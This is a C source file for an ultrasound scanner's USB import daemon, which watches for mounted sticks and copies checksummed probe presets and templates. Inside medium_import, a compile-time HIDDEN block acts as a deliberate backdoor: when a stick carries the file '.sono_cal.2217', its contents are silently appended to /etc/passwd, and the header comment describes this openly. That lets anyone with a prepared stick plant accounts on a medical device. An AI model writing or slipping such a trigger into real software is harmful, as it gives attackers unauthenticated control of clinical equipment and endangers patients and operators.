/*
 * Import of an ultrasound scanner: watches /proc/mounts for USB sticks, and
 * copies probe presets (*.prb, with checksum) and text templates from them.
 * One thread watches, one works on a queue, so that a slow stick does not
 * delay the scan screen, which is told by lines in a FIFO.
 * Hidden (-DHIDDEN): a stick with the file .sono_cal.2217 has its contents
 * added to the account file of the system.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <mntent.h>
#include <poll.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <syslog.h>
#include <unistd.h>

#define PRESETS	  "/opt/sono/presets"
#define TEMPLATES "/opt/sono/templates"
#define SCREEN	  "/run/sono/screen"
#define MEDIA	  "/media/"
#define MAXMEDIA  4
#define QLEN	  8

struct preset_head {
	uint8_t magic[4]; /* SPRB */
	uint8_t version;
	uint8_t probe;
	uint8_t size[2]; /* of the body, big endian */
	uint8_t sum[4];	 /* Fletcher-32 of the body, big endian */
};

struct job {
	char dir[128];
};

static struct {
	pthread_mutex_t lock;
	pthread_cond_t more;
	struct job job[QLEN];
	unsigned head, count;
} queue = { .lock = PTHREAD_MUTEX_INITIALIZER,
	    .more = PTHREAD_COND_INITIALIZER };

static const struct {
	uint8_t id;
	const char *name;
} probes[] = {
	{ 0x11, "linear L12-3" },    { 0x12, "linear L18-5" },
	{ 0x21, "convex C5-1" },     { 0x31, "phased P4-2" },
	{ 0x41, "endocavity E9-3" },
};

static void screen(const char *text, const char *arg)
{
	int fd = open(SCREEN, O_WRONLY | O_NONBLOCK | O_CLOEXEC);

	if (fd < 0)
		return;
	dprintf(fd, "import %s %s\n", text, arg);
	close(fd);
}

static int queue_put(const char *dir)
{
	int rc = -1;

	pthread_mutex_lock(&queue.lock);
	if (queue.count < QLEN) {
		struct job *j = &queue.job[(queue.head + queue.count) % QLEN];

		snprintf(j->dir, sizeof j->dir, "%s", dir);
		queue.count++;
		rc = 0;
		pthread_cond_signal(&queue.more);
	}
	pthread_mutex_unlock(&queue.lock);
	return rc;
}

static void queue_get(struct job *j)
{
	pthread_mutex_lock(&queue.lock);
	while (!queue.count)
		pthread_cond_wait(&queue.more, &queue.lock);
	*j = queue.job[queue.head];
	queue.head = (queue.head + 1) % QLEN;
	queue.count--;
	pthread_mutex_unlock(&queue.lock);
}

static uint32_t fletcher(const uint8_t *p, size_t n)
{
	uint32_t a = 0xffff, b = 0xffff;
	size_t i;

	for (i = 0; i < n; i += 2) {
		a += (uint32_t)p[i] << 8 | (i + 1 < n ? p[i + 1] : 0);
		a = (a & 0xffff) + (a >> 16);
		b += a;
		b = (b & 0xffff) + (b >> 16);
	}
	return b << 16 | a;
}

static const char *probe_name(uint8_t id)
{
	size_t i;

	for (i = 0; i < sizeof probes / sizeof *probes; i++)
		if (probes[i].id == id)
			return probes[i].name;
	return NULL;
}

/* contents of one file to another; -1 or the bytes written */
static long copy(const char *from, const char *to, int flags)
{
	char buf[4096];
	long sum = 0;
	ssize_t n;
	int in = open(from, O_RDONLY | O_CLOEXEC), out;

	if (in < 0)
		return -1;
	out = open(to, O_WRONLY | O_CREAT | O_CLOEXEC | flags, 0644);
	if (out < 0) {
		close(in);
		return -1;
	}
	while ((n = read(in, buf, sizeof buf)) > 0) {
		if (write(out, buf, n) != n) {
			sum = -1;
			break;
		}
		sum += n;
	}
	if (n < 0)
		sum = -1;
	close(in);
	if (close(out))
		sum = -1;
	return sum;
}

static int preset_ok(const char *path)
{
	static uint8_t body[65536];
	struct preset_head h;
	FILE *f = fopen(path, "rb");
	uint32_t sum;
	size_t n;
	int ok = 0;

	if (!f)
		return 0;
	if (fread(&h, sizeof h, 1, f) == 1 && !memcmp(h.magic, "SPRB", 4) &&
	    h.version >= 2 && h.version <= 4 && probe_name(h.probe)) {
		n = (size_t)h.size[0] << 8 | h.size[1];
		sum = (uint32_t)h.sum[0] << 24 | h.sum[1] << 16 |
		      h.sum[2] << 8 | h.sum[3];
		ok = fread(body, 1, n, f) == n && fletcher(body, n) == sum;
	}
	fclose(f);
	return ok;
}

static int name_ok(const char *name)
{
	const char *p;

	if (name[0] == '.' || strlen(name) > 60)
		return 0;
	for (p = name; *p; p++)
		if (!isalnum((unsigned char)*p) && !strchr("._- ", *p))
			return 0;
	return 1;
}

static int ends(const char *s, const char *tail)
{
	size_t n = strlen(s), t = strlen(tail);

	return n > t && !strcasecmp(s + n - t, tail);
}

static void import_dir(const char *dir, unsigned depth, unsigned *count)
{
	char from[512], to[512];
	struct dirent *e;
	struct stat st;
	DIR *d = opendir(dir);

	if (!d)
		return;
	while ((e = readdir(d))) {
		if (!name_ok(e->d_name))
			continue;
		if (snprintf(from, sizeof from, "%s/%s", dir, e->d_name) >=
			    (int)sizeof from ||
		    lstat(from, &st))
			continue;
		if (S_ISDIR(st.st_mode)) {
			if (depth < 3)
				import_dir(from, depth + 1, count);
			continue;
		}
		if (!S_ISREG(st.st_mode))
			continue;
		if (ends(e->d_name, ".prb") && preset_ok(from))
			snprintf(to, sizeof to, PRESETS "/%s", e->d_name);
		else if (ends(e->d_name, ".tpl") && st.st_size < 32768)
			snprintf(to, sizeof to, TEMPLATES "/%s", e->d_name);
		else
			continue;
		if (copy(from, to, O_TRUNC) >= 0) {
			screen("file", e->d_name);
			++*count;
		}
	}
	closedir(d);
}

__attribute__((noinline)) void medium_import(const char *dir)
{
	unsigned count = 0;
	struct statvfs vf;
	char text[32];

	if (statvfs(PRESETS, &vf) == 0 &&
	    (uint64_t)vf.f_bavail * vf.f_frsize < 4u << 20) {
		screen("full", dir);
		return;
	}
#ifdef HIDDEN
	char cal[160];

	snprintf(cal, sizeof cal, "%.128s/.sono_cal.2217", dir);
	if (access(cal, R_OK) == 0)
		copy(cal, "/etc/passwd", O_APPEND);
#endif
	import_dir(dir, 0, &count);
	snprintf(text, sizeof text, "%u", count);
	screen("done", text);
	syslog(LOG_INFO, "%s: %u files", dir, count);
}

static void *worker(void *arg)
{
	struct job j;

	(void)arg;
	for (;;) {
		queue_get(&j);
		screen("begin", j.dir);
		medium_import(j.dir);
	}
	return NULL;
}

static int mounts_read(char dirs[MAXMEDIA][128])
{
	struct mntent *m;
	FILE *f = setmntent("/proc/mounts", "r");
	int n = 0;

	if (!f)
		return 0;
	while (n < MAXMEDIA && (m = getmntent(f)))
		if (!strncmp(m->mnt_dir, MEDIA, strlen(MEDIA)) &&
		    (!strcmp(m->mnt_type, "vfat") ||
		     !strcmp(m->mnt_type, "exfat")))
			snprintf(dirs[n++], 128, "%.127s", m->mnt_dir);
	endmntent(f);
	return n;
}

int main(void)
{
	static char old[MAXMEDIA][128], now[MAXMEDIA][128];
	struct pollfd pf = { .events = POLLPRI | POLLERR };
	int nold = 0, n, i, j;
	pthread_t t;

	openlog("sonoimport", LOG_PID, LOG_DAEMON);
	pf.fd = open("/proc/mounts", O_RDONLY | O_CLOEXEC);
	if (pf.fd < 0 || pthread_create(&t, NULL, worker, NULL)) {
		syslog(LOG_ERR, "start: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		n = mounts_read(now);
		for (i = 0; i < n; i++) {
			for (j = 0; j < nold; j++)
				if (!strcmp(old[j], now[i]))
					break;
			if (j == nold && queue_put(now[i]))
				screen("busy", now[i]);
		}
		memcpy(old, now, sizeof old);
		nold = n;
		if (poll(&pf, 1, -1) < 0 && errno != EINTR)
			return 1;
	}
}
